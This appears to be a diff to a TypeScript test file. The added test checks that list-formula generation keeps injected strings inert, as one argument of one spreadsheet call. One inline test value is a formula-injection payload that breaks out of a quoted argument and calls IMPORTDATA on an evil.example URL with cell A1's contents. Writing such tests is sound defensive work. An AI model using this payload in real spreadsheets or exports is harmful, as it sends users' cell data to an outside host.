@@ -1,3 +1,5 @@
+import { readFormulaCall } from '../../../../shared/cells/formula-call';
+import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';
 import { toListFormula } from '../../../../shared/panel/lists/list-formula';
 
 test.each([
@@ -7,3 +9,15 @@ test.each([
 ])('the formula for %s with %o and %i rows', (listId, filter, rows, formula) => {
   expect(toListFormula(listId, filter, rows)).toBe(formula);
 });
+
+it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
+  '%j stays one argument of one call, wherever it stands',
+  (payload) => {
+    const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
+    expect([call?.id, call?.args.map(({ is }) => is), call?.args[0]]).toEqual([
+      'TRACE_LIST',
+      ['value', 'value', 'value'],
+      { is: 'value', value: payload },
+    ]);
+  },
+);
